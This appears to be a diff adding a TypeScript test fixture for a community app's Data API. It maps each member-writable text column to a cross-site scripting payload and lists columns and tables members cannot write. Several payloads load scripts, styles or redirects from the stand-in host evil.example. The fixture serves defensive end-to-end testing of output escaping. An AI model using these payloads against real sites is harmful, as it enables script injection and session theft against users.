@@ -1,0 +1,47 @@
+/**
+ * Every text column of the Data API: what a member writes into it as an attack, or why nobody chooses its text.
+ * 09-inventory.test.ts compares the lists with the database; e2e/security/injected-script.spec.ts opens the screens that show it.
+ */
+
+/** What a member writes, by table and column, each in another trick; all of them say `hit()`. */
+export const tricks = {
+  profiles: {
+    name: '<img src="https://evil.example/a" onerror="hit()">',
+    bio: '<script>hit()</script> {{hit()}} #{hit()} <%= hit() %> [x](javascript:hit())',
+    favorite_coaster: '"><svg onload=hit()>',
+    home_park: "'-hit()-'<details open ontoggle=hit()>",
+    // The other two networks take handles alone.
+    discord: '" onfocus=hit() autofocus x="#0001',
+    thrill_tour_coasters_checked: '<b onclick=hit()>',
+  },
+  meetups: {
+    title: '<svg/onload=hit()>title',
+    location: '<a href="javascript:hit()">gate</a>',
+    description: '</textarea><script src="https://evil.example/x.js"></script>hit()',
+    notes_from_host: '![x](https://evil.example/hit()) <object data="javascript:hit()">',
+  },
+  posts: {
+    content: '<math><mtext><img src=x onerror=hit()></mtext></math> javascript:hit()',
+    image_alts: '"><img src=x onerror=hit()>',
+    park_name: '<style>@import "https://evil.example/hit()";</style>',
+    park_country: '<base href="https://evil.example/hit()">',
+  },
+  post_comments: {
+    content: '<script>hit()</script><meta http-equiv=refresh content="0;url=https://evil.example/hit()">',
+  },
+  thoosie_tips: { tip_text: '<form action="javascript:hit()"><button autofocus onfocus=hit()>' },
+} as const;
+
+/** Columns whose text no member chooses: ids, handles, words of a list, paths of own files, and what the server writes. */
+export const notChosen: readonly string[] = [
+  ...['profiles.instagram', 'profiles.profile_picture', 'profiles.search_text', 'profiles.staff_role'],
+  ...['profiles.thrill_tour_2025', 'profiles.tiktok'],
+  ...['favorite_parks.park_id', 'meetups.thumbnail', 'posts.images', 'posts.park_id', 'thoosie_tips.park_id'],
+  ...['tip_votes.vote_type', 'user_park_visits.park_id', 'user_roles.role'],
+];
+
+/** Tables that only the server and its admins write. */
+export const notWritten: ReadonlySet<string> = new Set([
+  ...['coasters', 'parks', 'soundboard_effects', 'team_member_pictures', 'thrill_tour_day_thumbnails'],
+  ...['upstream_answers', 'storage_deletion_queue'],
+]);
